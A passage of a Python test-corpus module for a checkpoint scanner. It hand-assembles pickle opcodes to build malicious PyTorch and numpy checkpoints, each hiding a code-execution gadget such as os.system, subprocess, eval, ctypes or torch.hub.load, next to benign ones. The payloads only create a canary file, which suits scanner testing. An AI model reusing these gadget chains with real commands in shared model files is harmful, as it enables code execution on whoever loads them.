"""The verdict corpus: malicious and benign checkpoints for `ckpt scan` as a gate (no tests here).

Every builder is ``name(directory) -> path``: it writes one file (or one DCP folder) into
``directory`` at test time and returns its path; nothing is checked in or downloaded. A few
malicious builders also leave a helper next to it that the payload points at (a hub folder, the
inner pickle a loader is told to fetch); those are named ``<builder>.*`` and never scanned alone.

Malicious payloads follow the canary convention of hostile_files.py: each one, when run by a real
loader, only creates ``<directory>/CANARY_EXECUTED`` (shell payloads ``touch`` it, Python payloads
``open(..., 'w')`` it); the few callables that cannot create a file do something inert instead
(connect to a refused loopback port, remove a folder that does not exist). Each malicious file is
otherwise an ordinary-looking checkpoint (a real small state_dict, numpy arrays, DCP metadata).

Exported at the end:
- ``MALICIOUS`` / ``BENIGN``: the builders.
- ``EXPECTED_NAME``: per malicious builder, the ``module.name`` (Python 3 spelling, after
  pickle's py2 name mapping) of the dangerous callable the payload reaches, or None where no
  single name exists (a global computed at load time, an extension code, a parser differential).
- ``TRIGGER``: how a real loader reaches each payload (used to check that the payloads fire).
- ``NOT_RUNNABLE_HERE``: payloads whose callable cannot run on Linux / this Python, and why.
- ``BENIGN_LOADER``: which library loads each benign file back.
"""

from __future__ import annotations

import argparse
import atexit
import builtins
import datetime
import decimal
import io
import itertools
import marshal
import os
import pathlib
import pickle
import pickletools
import random
import shlex
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import torch

Builder = Callable[[Path], Path]

CANARY_NAME = "CANARY_EXECUTED"  # the convention of hostile_files.py


def canary_path(directory: Path) -> Path:
    """The file a payload creates when it runs (absolute, so a chdir cannot hide it)."""
    return (Path(directory) / CANARY_NAME).absolute()


__all__ = [
    "BENIGN",
    "BENIGN_LOADER",
    "CANARY_NAME",
    "EXPECTED_NAME",
    "MALICIOUS",
    "NOT_RUNNABLE_HERE",
    "TRIGGER",
    "Builder",
    "canary_path",
]


# =========================================================================== pickle assembler
# Each helper returns opcode bytes that push exactly one object (or, for _pickle, a whole pickle).


def _u(s: str) -> bytes:
    """BINUNICODE."""
    raw = s.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def _su(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _i(n: int) -> bytes:
    """BININT, or LONG1 beyond 32 bits."""
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _f(x: float) -> bytes:
    """BINFLOAT."""
    return b"G" + struct.pack(">d", x)


def _b(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def _bool(v: bool) -> bytes:
    return b"\x88" if v else b"\x89"


def _g(module: str, name: str) -> bytes:
    """GLOBAL (the protocol 0-3 spelling; any protocol accepts it)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both strings pushed right before it."""
    return _u(module) + _u(name) + b"\x93"


def _tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _call(fn: bytes, *args: bytes) -> bytes:
    return fn + _tup(*args) + b"R"


def _dict(pairs: list[tuple[bytes, bytes]]) -> bytes:
    return b"}(" + b"".join(k + v for k, v in pairs) + b"u"


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _pickle(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def _framed(body: bytes, proto: int = 4) -> bytes:
    """PROTO, one FRAME holding the whole body, STOP (what the pickler writes below 64 KiB)."""
    rest = body + b"."
    return b"\x80" + bytes([proto]) + b"\x95" + struct.pack("<Q", len(rest)) + rest


# protocol-0 text spellings


def _tv(s: str) -> bytes:
    """UNICODE (text protocol): raw-unicode-escape up to the newline."""
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def _tcall(fn: bytes, *args: bytes) -> bytes:
    return fn + b"(" + b"".join(args) + b"tR"


# =========================================================================== payload pieces


def _canary(directory: Path) -> str:
    return str(canary_path(directory))


def _sh(directory: Path) -> str:
    """The shell payload: touch the canary, nothing else."""
    return f"touch {shlex.quote(_canary(directory))}"


def _py(directory: Path) -> str:
    """The Python payload: create the canary, nothing else."""
    return f"open({_canary(directory)!r}, 'w').close()"


def _system(directory: Path, module: str = "posix") -> bytes:
    return _call(_g(module, "system"), _u(_sh(directory)))


def _inner_pickle(directory: Path) -> bytes:
    """A whole pickle whose load runs posix.system (for loaders handed bytes or a file)."""
    return _pickle(_system(directory), 2)


def _inner_pickle_then(directory: Path, result: bytes) -> bytes:
    """Fires, then returns `result` (so the loader that unpickled it carries on normally)."""
    return _pickle(_system(directory) + b"0" + result, 2)


class _Reduce:
    """Pickles as fn(*args): pickle records fn by its own __module__ and __qualname__."""

    def __init__(self, fn: Callable[..., object], *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.fn, self.args)


# =========================================================================== benign-looking content


def _np_state(seed: int = 0) -> dict[str, object]:
    rng = np.random.default_rng(seed)
    return {
        "fc1.weight": rng.standard_normal((8, 4)).astype(np.float32),
        "fc1.bias": np.zeros(8, np.float32),
        "fc2.weight": rng.standard_normal((2, 8)).astype(np.float32),
        "fc2.bias": np.zeros(2, np.float32),
        "step": 1200,
    }


def _torch_state(seed: int = 0) -> dict[str, torch.Tensor]:
    g = torch.Generator().manual_seed(seed)
    return {
        "conv1.weight": torch.randn(8, 3, 3, 3, generator=g),
        "conv1.bias": torch.zeros(8),
        "bn1.weight": torch.ones(8),
        "bn1.bias": torch.zeros(8),
        "bn1.running_mean": torch.zeros(8),
        "bn1.running_var": torch.ones(8),
        "bn1.num_batches_tracked": torch.tensor(0),
        "fc.weight": torch.randn(10, 8, generator=g),
        "fc.bias": torch.zeros(10),
    }


_NP_RECONSTRUCT = np.zeros(1).__reduce__()[0].__module__  # numpy._core.multiarray on numpy 2


def _np_expr(arr: np.ndarray) -> bytes:
    """A numpy array spelled as ndarray.__reduce__ spells it, with no memo opcodes."""
    arr = np.ascontiguousarray(arr)
    _, (code, align, copy), dstate = arr.dtype.__reduce__()
    dtype = _call(_g("numpy", "dtype"), _u(code), _bool(align), _bool(copy))
    dtype += _tup(_i(3), _u(dstate[1]), b"N", b"N", b"N", _i(-1), _i(-1), _i(0)) + b"b"
    base = _call(_g(_NP_RECONSTRUCT, "_reconstruct"), _g("numpy", "ndarray"), _tup(_i(0)), _b(b"b"))
    state = _tup(_i(1), _tup(*map(_i, arr.shape)), dtype, b"\x89", _b(arr.tobytes()))
    return base + state + b"b"


def _np_pairs(seed: int = 0) -> list[tuple[bytes, bytes]]:
    """The numpy state dict as hand-assembled (memo-free) dict items."""
    pairs = []
    for k, v in _np_state(seed).items():
        pairs.append((_u(k), _np_expr(v) if isinstance(v, np.ndarray) else _i(int(str(v)))))
    return pairs


def _tensor_expr(
    key: str, t: torch.Tensor, *, key_expr: bytes | None = None, location: bytes | None = None
) -> bytes:
    """torch._utils._rebuild_tensor_v2 over persistent storage `key`, as torch.save writes it."""
    storage = {torch.float32: "FloatStorage", torch.int64: "LongStorage"}[t.dtype]
    pid = _tup(
        _u("storage"),
        _g("torch", storage),
        key_expr if key_expr is not None else _u(key),
        location if location is not None else _u("cpu"),
        _i(t.numel()),
    )
    return _call(
        _g("torch._utils", "_rebuild_tensor_v2"),
        pid + b"Q",
        _i(0),
        _tup(*map(_i, t.shape)),
        _tup(*map(_i, t.stride())),
        b"\x89",
        _call(_g("collections", "OrderedDict")),
    )


# =========================================================================== splicing

_SLOT = "__ckpt_verdict_slot_a__"
_SLOT2 = "__ckpt_verdict_slot_b__"


def _unframe(data: bytes) -> bytes:
    """The same pickle without FRAME opcodes (frames are optional; lengths would go stale)."""
    cuts = [pos for op, _, pos in pickletools.genops(data) if op.name == "FRAME"]
    out, last = bytearray(), 0
    for pos in cuts:
        out += data[last:pos]
        last = pos + 9
    return bytes(out + data[last:])


def _reframe(data: bytes) -> bytes:
    """One FRAME after PROTO over the rest, for protocol 4 and 5 (as pickle.dumps would)."""
    if data[:1] == b"\x80" and data[1] >= 4:
        rest = data[2:]
        return data[:2] + b"\x95" + struct.pack("<Q", len(rest)) + rest
    return data


def _splice(data: bytes, payloads: dict[str, bytes]) -> bytes:
    """Replace each slot string's opcode (in a stream of pickles) by the payload bytes.

    Slots are found by walking the opcodes, so a slot string never matches inside tensor bytes.
    Only the string opcode is replaced; a PUT/MEMOIZE after it then memoises the payload result.
    """
    todo = dict(payloads)
    found: list[tuple[int, int, bytes]] = []
    f = io.BytesIO(data)
    while todo and f.tell() < len(data):
        ops = list(pickletools.genops(f))
        for (_, arg, pos), (_, _, nxt) in itertools.pairwise(ops):
            if isinstance(arg, str) and arg in todo:
                found.append((pos, nxt, todo.pop(arg)))
    assert not todo, f"slots not found: {sorted(todo)}"
    for pos, nxt, payload in sorted(found, reverse=True):
        data = data[:pos] + payload + data[nxt:]
    return data


def _spliced_dumps(
    obj: object, payloads: dict[str, bytes], proto: int, *, fix_imports: bool = True
) -> bytes:
    data = _unframe(pickle.dumps(obj, protocol=proto, fix_imports=fix_imports))
    return _reframe(_splice(data, payloads))


def _np_slot_state(seed: int = 0, key: str = "optimizer") -> dict[str, object]:
    state = _np_state(seed)
    state[key] = _SLOT
    return state


def _write(directory: Path, filename: str, data: bytes) -> Path:
    path = Path(directory) / filename
    path.write_bytes(data)
    return path


def _pkl(
    directory: Path, stem: str, payload: bytes, proto: int = 2, key: str = "optimizer"
) -> Path:
    """A plain pickle of a numpy state dict whose `key` entry is the payload."""
    data = _spliced_dumps(_np_slot_state(key=key), {_SLOT: payload}, proto)
    return _write(directory, f"{stem}.pkl", data)


def _hand_pkl(directory: Path, stem: str, *extra: tuple[bytes, bytes], proto: int = 4) -> Path:
    """A hand-assembled (memo-free) numpy state dict pickle with extra items appended."""
    body = _dict([*_np_pairs(), *extra])
    data = _framed(body, proto) if proto >= 4 else _pickle(body, proto)
    return _write(directory, f"{stem}.pkl", data)


# =========================================================================== zip writer


@dataclass
class _Member:
    name: str
    data: bytes
    local_name: str | None = None  # the name in the local header (default: the directory's)
    local_sizes: tuple[int, int] | None = None  # (compressed, uncompressed) in the local header
    listed: bool = True  # has a central-directory entry


def _zip_bytes(members: list[_Member], *, prefix: bytes = b"", align: int = 64) -> bytes:
    """STORED zip, each payload `align`-byte aligned with torch's "FB" extra field.

    Central-directory offsets are absolute (they count `prefix`), so readers that locate the
    archive from its end read the members; a local header can be left out of the directory or
    can disagree with it about the name or the sizes.
    """
    out, central, count = bytearray(prefix), bytearray(), 0
    for m in members:
        crc = zlib.crc32(m.data)
        lname = (m.local_name if m.local_name is not None else m.name).encode()
        offset = len(out)
        pad = (-(offset + 30 + len(lname) + 4)) % align
        extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad
        csize, usize = m.local_sizes or (len(m.data), len(m.data))
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, csize, usize, len(lname), len(extra)
        )
        out += lname + extra + m.data
        if m.listed:
            name = m.name.encode()
            central += struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(m.data), len(m.data),
                len(name), 0, 0, 0, 0, 0, offset,
            )  # fmt: skip
            central += name
            count += 1
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset, 0)
    return bytes(out)


def _write_zip(path: Path, members: list[tuple[str, bytes]] | list[_Member]) -> Path:
    ms = [m if isinstance(m, _Member) else _Member(*m) for m in members]
    path.write_bytes(_zip_bytes(ms))
    return path


def _read_members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _saved_members(path: Path, obj: object, proto: int = 2) -> list[tuple[str, bytes]]:
    torch.save(obj, path, pickle_protocol=proto)
    return _read_members(path)


def _torch_zip(
    directory: Path,
    stem: str,
    payload: bytes,
    *,
    proto: int = 2,
    key: str = "_extra_state",
    obj: dict[str, object] | None = None,
) -> Path:
    """torch.save of a real state dict with one more entry `key`, which is the payload."""
    path = Path(directory) / f"{stem}.pth"
    state: dict[str, object] = dict(obj if obj is not None else _torch_state())
    state[key] = _SLOT
    members = [
        (n, _reframe(_splice(_unframe(d), {_SLOT: payload})) if n.endswith("/data.pkl") else d)
        for n, d in _saved_members(path, state, proto)
    ]
    return _write_zip(path, members)


def _hand_zip(
    directory: Path,
    stem: str,
    *extra: tuple[bytes, bytes],
    proto: int = 2,
    tensor_exprs: dict[str, bytes] | None = None,
    before: bool = False,
) -> Path:
    """A torch zip whose data.pkl is hand-assembled (memo-free) over torch.save's own storages."""
    path = Path(directory) / f"{stem}.pth"
    sd = _torch_state()
    members = _saved_members(path, sd)
    pairs = [
        (_u(k), (tensor_exprs or {}).get(k) or _tensor_expr(str(i), t))
        for i, (k, t) in enumerate(sd.items())
    ]
    items = [*extra, *pairs] if before else [*pairs, *extra]
    body = _dict(items)
    data_pkl = _framed(body, proto) if proto >= 4 else _pickle(body, proto)
    return _write_zip(path, [(n, data_pkl if n.endswith("/data.pkl") else d) for n, d in members])


def _zip_with_extra_member(directory: Path, stem: str, member: str, data: bytes) -> Path:
    path = Path(directory) / f"{stem}.pth"
    members = _saved_members(path, _torch_state())
    prefix = members[0][0].split("/")[0]
    members.insert(-1, (f"{prefix}/{member}", data))
    return _write_zip(path, members)


# =========================================================================== classic callables


def pkl_os_system(directory: Path) -> Path:
    """os.system spelled `os` (not posix) in a protocol 2 numpy checkpoint."""
    return _pkl(directory, "pkl_os_system", _system(directory, "os"))


def zip_posix_system_reduce(directory: Path) -> Path:
    """The textbook __reduce__ payload, written by torch.save itself (recorded as posix.system)."""
    path = Path(directory) / "zip_posix_system_reduce.pth"
    torch.save({**_torch_state(), "_extra_state": _Reduce(os.system, _sh(directory))}, path)
    return path


def pkl_nt_system(directory: Path) -> Path:
    """nt.system: os.system as pickled on Windows (no `nt` module here)."""
    return _pkl(directory, "pkl_nt_system", _system(directory, "nt"))


def _touch_argv(directory: Path) -> bytes:
    return _list(_u("touch"), _u(_canary(directory)))


def zip_subprocess_popen(directory: Path) -> Path:
    payload = _call(_g("subprocess", "Popen"), _touch_argv(directory))
    return _torch_zip(directory, "zip_subprocess_popen", payload)


def pkl_subprocess_run(directory: Path) -> Path:
    payload = _call(_g("subprocess", "run"), _touch_argv(directory))
    return _pkl(directory, "pkl_subprocess_run", payload, proto=3)


def pkl_subprocess_call(directory: Path) -> Path:
    payload = _call(_g("subprocess", "call"), _touch_argv(directory))
    return _pkl(directory, "pkl_subprocess_call", payload)


def zip_subprocess_check_output(directory: Path) -> Path:
    payload = _call(_g("subprocess", "check_output"), _touch_argv(directory))
    return _torch_zip(directory, "zip_subprocess_check_output", payload)


def pkl_builtins_exec_py2(directory: Path) -> Path:
    """Protocol 0 text, py2 spelling `__builtin__ exec` (mapped to builtins.exec on load)."""
    payload = _tcall(_g("__builtin__", "exec"), _tv(_py(directory)))
    data = _spliced_dumps(_np_slot_state(), {_SLOT: payload}, 0)
    return _write(directory, "pkl_builtins_exec_py2.pkl", data)


def zip_builtins_eval(directory: Path) -> Path:
    payload = _call(_g("builtins", "eval"), _u(_py(directory)))
    return _torch_zip(directory, "zip_builtins_eval", payload)


def pkl_builtins_compile(directory: Path) -> Path:
    """types.FunctionType(compile(src, ...), {})(): compile is the only classic name in it."""
    code = _call(_g("builtins", "compile"), _u(_py(directory)), _u("<config>"), _u("exec"))
    fn = _call(_g("types", "FunctionType"), code, b"}")
    return _pkl(directory, "pkl_builtins_compile", _call(fn))


def zip_builtins_getattr(directory: Path) -> Path:
    """getattr(<the os module, reached as torch.serialization.os>, 'system')(cmd)."""
    system = _call(_g("builtins", "getattr"), _g("torch.serialization", "os"), _u("system"))
    return _torch_zip(directory, "zip_builtins_getattr", _call(system, _u(_sh(directory))))


def pkl_dunder_import(directory: Path) -> Path:
    os_mod = _call(_g("builtins", "__import__"), _u("os"))
    system = _call(_g("builtins", "getattr"), os_mod, _u("system"))
    return _pkl(directory, "pkl_dunder_import", _call(system, _u(_sh(directory))))


def zip_builtins_open(directory: Path) -> Path:
    """open(canary, 'w'): the file open itself is the effect."""
    payload = _call(_g("builtins", "open"), _u(_canary(directory)), _u("w"))
    return _torch_zip(directory, "zip_builtins_open", payload)


def pkl_runpy_run_code(directory: Path) -> Path:
    payload = _call(_g("runpy", "_run_code"), _u(_py(directory)), b"}")
    return _pkl(directory, "pkl_runpy_run_code", payload)


def pkl_webbrowser_open(directory: Path) -> Path:
    """webbrowser.open(<canary path>): the browser command runs with the path (BROWSER=touch)."""
    payload = _call(_g("webbrowser", "open"), _u(_canary(directory)))
    return _pkl(directory, "pkl_webbrowser_open", payload)


def zip_socket_create_connection(directory: Path) -> Path:
    """socket.create_connection to a refused loopback port (cannot create the canary)."""
    payload = _call(_g("socket", "create_connection"), _tup(_u("127.0.0.1"), _i(9)), _f(0.5))
    return _torch_zip(directory, "zip_socket_create_connection", payload)


def pkl_shutil_rmtree(directory: Path) -> Path:
    """shutil.rmtree of a folder that does not exist, ignore_errors=True (inert here)."""
    target = str(Path(directory).absolute() / "pkl_shutil_rmtree.no_such_folder")
    payload = _call(_g("shutil", "rmtree"), _u(target), b"\x88")
    return _pkl(directory, "pkl_shutil_rmtree", payload)


def zip_pickle_loads(directory: Path) -> Path:
    payload = _call(_g("pickle", "loads"), _b(_inner_pickle(directory)))
    return _torch_zip(directory, "zip_pickle_loads", payload)


def pkl_c_pickle_loads(directory: Path) -> Path:
    """_pickle.loads (what pickle.dumps records for pickle.loads)."""
    payload = _call(_g("_pickle", "loads"), _b(_inner_pickle(directory)))
    return _pkl(directory, "pkl_c_pickle_loads", payload, proto=3)


def zip_marshal_loads(directory: Path) -> Path:
    """FunctionType(marshal.loads(<code object>), {})()."""
    code = marshal.dumps(compile(_py(directory), "<hook>", "exec"))
    fn = _call(_g("types", "FunctionType"), _call(_g("marshal", "loads"), _b(code)), b"}")
    return _torch_zip(directory, "zip_marshal_loads", _call(fn))


def pkl_pty_spawn(directory: Path) -> Path:
    payload = _call(_g("pty", "spawn"), _touch_argv(directory))
    return _pkl(directory, "pkl_pty_spawn", payload)


def pkl_code_interpreter_runcode(directory: Path) -> Path:
    """code.InteractiveInterpreter.runcode(InteractiveInterpreter(), src): a dotted name."""
    inst = _call(_g("code", "InteractiveInterpreter"))
    payload = _call(_sg("code", "InteractiveInterpreter.runcode"), inst, _u(_py(directory)))
    return _pkl(directory, "pkl_code_interpreter_runcode", payload, proto=4)


def zip_bdb_run(directory: Path) -> Path:
    payload = _call(_sg("bdb", "Bdb.run"), _call(_g("bdb", "Bdb")), _u(_py(directory)))
    return _torch_zip(directory, "zip_bdb_run", payload, proto=4)


def pkl_pdb_run(directory: Path) -> Path:
    """pdb.Pdb(stdin=StringIO('continue'), stdout=StringIO()).run(src): no prompt waits."""
    sio = _g("io", "StringIO")
    pdb = _call(
        _g("pdb", "Pdb"),
        _u("tab"),
        _call(sio, _u("continue\n")),
        _call(sio),
        b"N",
        b"\x88",
        b"\x89",
    )
    payload = _call(_sg("pdb", "Pdb.run"), pdb, _u(_py(directory)))
    return _pkl(directory, "pkl_pdb_run", payload, proto=4)


def pkl_cprofile_run(directory: Path) -> Path:
    return _pkl(directory, "pkl_cprofile_run", _call(_g("cProfile", "run"), _u(_py(directory))))


def zip_profile_run(directory: Path) -> Path:
    return _torch_zip(directory, "zip_profile_run", _call(_g("profile", "run"), _u(_py(directory))))


def pkl_timeit(directory: Path) -> Path:
    """timeit.timeit('pass', setup=src, timer=time.perf_counter, number=1)."""
    payload = _call(
        _g("timeit", "timeit"), _u("pass"), _u(_py(directory)), _g("time", "perf_counter"), _i(1)
    )
    return _pkl(directory, "pkl_timeit", payload)


def pkl_trace_run(directory: Path) -> Path:
    tracer = _call(_g("trace", "Trace"), _i(0), _i(0))
    payload = _call(_sg("trace", "Trace.run"), tracer, _u(_py(directory)))
    return _pkl(directory, "pkl_trace_run", payload, proto=4)


def zip_functools_partial(directory: Path) -> Path:
    """functools.partial(posix.system, cmd)()."""
    part = _call(_g("functools", "partial"), _g("posix", "system"), _u(_sh(directory)))
    return _torch_zip(directory, "zip_functools_partial", _call(part))


def pkl_partial_setstate(directory: Path) -> Path:
    """partial(print) whose BUILD state swaps in (posix.system, (cmd,), {}, None), then called."""
    part = _call(_g("functools", "partial"), _g("builtins", "print"))
    state = _tup(_g("posix", "system"), _tup(_u(_sh(directory))), b"}", b"N")
    return _pkl(directory, "pkl_partial_setstate", _call(part + state + b"b"))


def pkl_operator_attrgetter(directory: Path) -> Path:
    """attrgetter('system')(shutil.os)(cmd)."""
    system = _call(_call(_g("operator", "attrgetter"), _u("system")), _g("shutil", "os"))
    return _pkl(directory, "pkl_operator_attrgetter", _call(system, _u(_sh(directory))))


def zip_operator_methodcaller(directory: Path) -> Path:
    """methodcaller('system', cmd)(shutil.os)."""
    caller = _call(_g("operator", "methodcaller"), _u("system"), _u(_sh(directory)))
    return _torch_zip(directory, "zip_operator_methodcaller", _call(caller, _g("shutil", "os")))


def pkl_asyncio_subprocess(directory: Path) -> Path:
    """asyncio.run(asyncio.subprocess.create_subprocess_exec('touch', canary))."""
    coro = _call(
        _g("asyncio.subprocess", "create_subprocess_exec"), _u("touch"), _u(_canary(directory))
    )
    return _pkl(directory, "pkl_asyncio_subprocess", _call(_g("asyncio", "run"), coro))


def pkl_ctypes_cdll(directory: Path) -> Path:
    """ctypes.CDLL(None)['system'](b'cmd'): libc's system() through the dotted __getitem__."""
    libc = _call(_g("ctypes", "CDLL"), b"N")
    system = _call(_sg("ctypes", "CDLL.__getitem__"), libc, _u("system"))
    payload = _call(system, _b(_sh(directory).encode()))
    return _pkl(directory, "pkl_ctypes_cdll", payload, proto=4)


def zip_importlib_import_module(directory: Path) -> Path:
    os_mod = _call(_g("importlib", "import_module"), _u("os"))
    system = _call(_g("builtins", "getattr"), os_mod, _u("system"))
    return _torch_zip(directory, "zip_importlib_import_module", _call(system, _u(_sh(directory))))


def pkl_pydoc_locate(directory: Path) -> Path:
    system = _call(_g("pydoc", "locate"), _u("os.system"))
    return _pkl(directory, "pkl_pydoc_locate", _call(system, _u(_sh(directory))))


def pkl_platform_syscmd_file(directory: Path) -> Path:
    """platform._syscmd_file runs `file -b TARGET` (argv list: cannot create the canary)."""
    payload = _call(_g("platform", "_syscmd_file"), _u(_canary(directory)), _u(""))
    return _pkl(directory, "pkl_platform_syscmd_file", payload)


def pkl_ensurepip_run_pip(directory: Path) -> Path:
    """ensurepip._run_pip formats `args` into the -c source of a child Python: code injection."""
    args = f"[]\n{_py(directory)}\nraise SystemExit(0)"
    return _pkl(directory, "pkl_ensurepip_run_pip", _call(_g("ensurepip", "_run_pip"), _u(args)))


def pkl_venv_create(directory: Path) -> Path:
    """venv.create(<canary path>): the new environment folder is the canary."""
    payload = _call(_g("venv", "create"), _u(_canary(directory)))
    return _pkl(directory, "pkl_venv_create", payload)


def pkl_idlelib_runcode(directory: Path) -> Path:
    """idlelib.run.Executive.runcode on an Executive made with NEWOBJ (no __init__) + BUILD."""
    inst = _g("idlelib.run", "Executive") + b")\x81" + _dict([(_u("locals"), b"}")]) + b"b"
    payload = _call(_sg("idlelib.run", "Executive.runcode"), inst, _u(_py(directory)))
    return _pkl(directory, "pkl_idlelib_runcode", payload, proto=4)


def pkl_numpy_runstring(directory: Path) -> Path:
    payload = _call(_g("numpy.testing._private.utils", "runstring"), _u(_py(directory)), b"}")
    return _pkl(directory, "pkl_numpy_runstring", payload)


def zip_distutils_spawn(directory: Path) -> Path:
    payload = _call(_g("distutils.spawn", "spawn"), _touch_argv(directory))
    return _torch_zip(directory, "zip_distutils_spawn", payload)


def _bytes_io(data: bytes) -> bytes:
    return _call(_g("io", "BytesIO"), _b(data))


def pkl_numpy_load(directory: Path) -> Path:
    """numpy.load(BytesIO(<pickle>), None, allow_pickle=True)."""
    payload = _call(_g("numpy", "load"), _bytes_io(_inner_pickle(directory)), b"N", b"\x88")
    return _pkl(directory, "pkl_numpy_load", payload)


def pkl_torch_load(directory: Path) -> Path:
    """torch.load(BytesIO(<pickle>), None, pickle): passing pickle_module turns weights_only off."""
    payload = _call(
        _g("torch", "load"),
        _bytes_io(_inner_pickle(directory)),
        b"N",
        _g("torch.serialization", "pickle"),
    )
    return _pkl(directory, "pkl_torch_load", payload)


def zip_torch_serialization_load(directory: Path) -> Path:
    payload = _call(
        _g("torch.serialization", "load"),
        _bytes_io(_inner_pickle(directory)),
        b"N",
        _g("torch.serialization", "pickle"),
    )
    return _torch_zip(directory, "zip_torch_serialization_load", payload)


def pkl_torch_jit_load(directory: Path) -> Path:
    """torch.jit.load of a path next to it (TorchScript cannot write the canary itself)."""
    target = str(Path(directory).absolute() / "pkl_torch_jit_load.scripted.pt")
    return _pkl(directory, "pkl_torch_jit_load", _call(_g("torch.jit", "load"), _u(target)))


def zip_torch_hub_load(directory: Path) -> Path:
    """torch.hub.load(dir, 'model', source='local'): keyword arguments through NEWOBJ_EX of
    functools.partial, then called. The hub folder's hubconf.py creates the canary on import."""
    hub = Path(directory).absolute() / "zip_torch_hub_load.hub"
    hub.mkdir(exist_ok=True)
    (hub / "hubconf.py").write_text(
        f"dependencies = []\n{_py(directory)}\n\n\ndef model():\n    return None\n"
    )
    kwargs = _dict(
        [(_u("source"), _u("local")), (_u("trust_repo"), b"\x88"), (_u("verbose"), b"\x89")]
    )
    part = (
        _g("functools", "partial")
        + _tup(_g("torch.hub", "load"), _u(str(hub)), _u("model"))
        + kwargs
        + b"\x92"
    )
    return _torch_zip(directory, "zip_torch_hub_load", _call(part), proto=4)


def pkl_torch_storage_load_from_bytes(directory: Path) -> Path:
    """torch.storage._load_from_bytes(b) is torch.load(BytesIO(b), weights_only=False)."""
    payload = _call(_g("torch.storage", "_load_from_bytes"), _b(_inner_pickle(directory)))
    return _pkl(directory, "pkl_torch_storage_load_from_bytes", payload)


def pkl_torch_package(directory: Path) -> Path:
    """PackageImporter(BytesIO(<package>)).import_module('cfg'): runs the packaged source."""
    import torch.package

    buf = io.BytesIO()
    with torch.package.PackageExporter(buf) as exporter:
        exporter.save_source_string("cfg", _py(directory) + "\n")
    importer = _call(_g("torch.package", "PackageImporter"), _bytes_io(buf.getvalue()))
    payload = _call(_sg("torch.package", "PackageImporter.import_module"), importer, _u("cfg"))
    return _pkl(directory, "pkl_torch_package", payload, proto=4)


# =========================================================================== denylist misses


def zip_collect_env_run(directory: Path) -> Path:
    payload = _call(_g("torch.utils.collect_env", "run"), _u(_sh(directory)))
    return _torch_zip(directory, "zip_collect_env_run", payload)


def pkl_bottleneck_run_cprofile(directory: Path) -> Path:
    payload = _call(_g("torch.utils.bottleneck.__main__", "run_cprofile"), _u(_py(directory)), b"}")
    return _pkl(directory, "pkl_bottleneck_run_cprofile", payload)


def zip_config_module_load_config(directory: Path) -> Path:
    """ConfigModule.load_config(None, <pickle>): a dotted attribute path to a pickle.loads."""
    payload = _call(
        _sg("torch.utils._config_module", "ConfigModule.load_config"),
        b"N",
        _b(_inner_pickle_then(directory, b"}")),
    )
    return _torch_zip(directory, "zip_config_module_load_config", payload, proto=4)


def pkl_doctest_debug_script(directory: Path) -> Path:
    payload = _call(_g("doctest", "debug_script"), _u(_py(directory)), b"\x88")
    return _pkl(directory, "pkl_doctest_debug_script", payload)


def pkl_uuid_get_command_stdout(directory: Path) -> Path:
    payload = _call(_g("uuid", "_get_command_stdout"), _u("touch"), _u(_canary(directory)))
    return _pkl(directory, "pkl_uuid_get_command_stdout", payload)


def pkl_osx_support_read_output(directory: Path) -> Path:
    payload = _call(_g("_osx_support", "_read_output"), _u(_sh(directory)))
    return _pkl(directory, "pkl_osx_support_read_output", payload)


def pkl_aix_support_read_cmd_output(directory: Path) -> Path:
    payload = _call(_g("_aix_support", "_read_cmd_output"), _u(_sh(directory)))
    return _pkl(directory, "pkl_aix_support_read_cmd_output", payload)


def pkl_pyrepl_pipe_pager(directory: Path) -> Path:
    payload = _call(_g("_pyrepl.pager", "pipe_pager"), _u("x"), _u(_sh(directory)), _u(""))
    return _pkl(directory, "pkl_pyrepl_pipe_pager", payload)


def pkl_script_helper_assert_python_ok(directory: Path) -> Path:
    payload = _call(
        _g("test.support.script_helper", "assert_python_ok"), _u("-c"), _u(_py(directory))
    )
    return _pkl(directory, "pkl_script_helper_assert_python_ok", payload)


def zip_lib2to3_grammar_loads(directory: Path) -> Path:
    """Grammar.loads(Grammar(), <pickle>) unpickles its argument (the pickle returns {})."""
    grammar = _call(_g("lib2to3.pgen2.grammar", "Grammar"))
    payload = _call(
        _sg("lib2to3.pgen2.grammar", "Grammar.loads"),
        grammar,
        _b(_inner_pickle_then(directory, b"}")),
    )
    return _torch_zip(directory, "zip_lib2to3_grammar_loads", payload, proto=4)


def pkl_logging_filehandler(directory: Path) -> Path:
    """logging.FileHandler(<canary>) opens (creates) the file."""
    payload = _call(_g("logging", "FileHandler"), _u(_canary(directory)))
    return _pkl(directory, "pkl_logging_filehandler", payload)


def pkl_aiohttp_client_session(directory: Path) -> Path:
    return _pkl(
        directory, "pkl_aiohttp_client_session", _call(_g("aiohttp.client", "ClientSession"))
    )


def _inner_file(directory: Path, stem: str) -> Path:
    """The pickle a loader is pointed at (named so that folder scans do not pick it up)."""
